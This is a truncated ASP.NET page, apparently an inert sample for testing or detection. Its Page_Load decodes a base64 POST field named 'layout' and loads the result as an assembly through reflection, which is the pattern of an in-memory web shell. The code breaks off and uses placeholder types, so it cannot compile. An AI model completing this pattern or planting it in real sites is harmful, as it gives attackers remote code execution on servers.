<%@ Page Language="C#" %>
<script runat="server">
  // INERT SAMPLE: the page is cut off and names types that do not exist; it cannot compile.
  protected void Page_Load(object sender, EventArgs e)
  {
    string packed = Request.Form["layout"];
    byte[] image = Convert.FromBase64String(packed);
    NoSuchType module = System.Reflection.Assembly.Load(image).CreateInstance("NoSuchClass") as NoSuchType
